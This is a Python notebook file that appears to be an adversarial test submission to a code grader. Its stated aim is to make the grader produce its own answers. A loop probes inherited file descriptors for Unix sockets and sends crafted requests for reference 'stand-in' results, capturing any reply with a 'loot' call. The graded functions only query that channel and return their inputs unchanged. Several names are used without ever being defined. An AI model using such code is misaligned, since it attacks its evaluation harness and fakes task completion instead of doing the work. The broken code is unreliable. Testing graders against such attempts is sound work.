# Has the grader work out its answers: asks for a stand-in of each function, in cells and in calls.
#
# must: earn nothing, and be no fault of the grader's

# %%
import json, os, socket, stat, struct
from safetensors.torch import save


def ask(sock, name, *args):
    nodes, tensors = [], {}
    for i, value in enumerate(args):
        tensors[str(i)] = value
        nodes.append({"kind": "tensor", "key": str(i), "stride": value.stride(), "device": "cpu",
                      "requires_grad": False, "grad": {"kind": "plain", "value": None}})
    text = json.dumps({"stand_in": name, "args": nodes, "kwargs": {}}).encode()
    buffer = save(tensors)
    sock.sendall(struct.pack("!II", len(text), len(buffer)) + text + buffer)
    sock.settimeout(2)
    head = sock.recv(8, socket.MSG_WAITALL)
    sizes = struct.unpack("!II", head)
    text, buffer = (sock.recv(size, socket.MSG_WAITALL) for size in sizes)
    if b"result" in text:
        loot(f"the answer of {name}: {text[:80]} {buffer[:80]}")
    return text


for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            copy = socket.socket(fileno=os.dup(fd))
            if copy.family == socket.AF_UNIX and copy.type == socket.SOCK_STREAM:
                ask(copy, "multiply_all", torch.eye(2))
    except (OSError, ValueError, struct.error):
        pass


# %% sigmoid_gradient
def sigmoid_gradient(x):
    ask(channel(), "sigmoid_gradient", x.detach())
    return x


# %% multiply_all
def multiply_all(M, factors):
    ask(channel(), "exploding_product")
    return M


# %% exploding_product
def exploding_product(size=4, n_factors=100, device=None, generator=None):
    ask(channel(), "exploding_product")
    ask(channel(), "no_such_function")
    return M
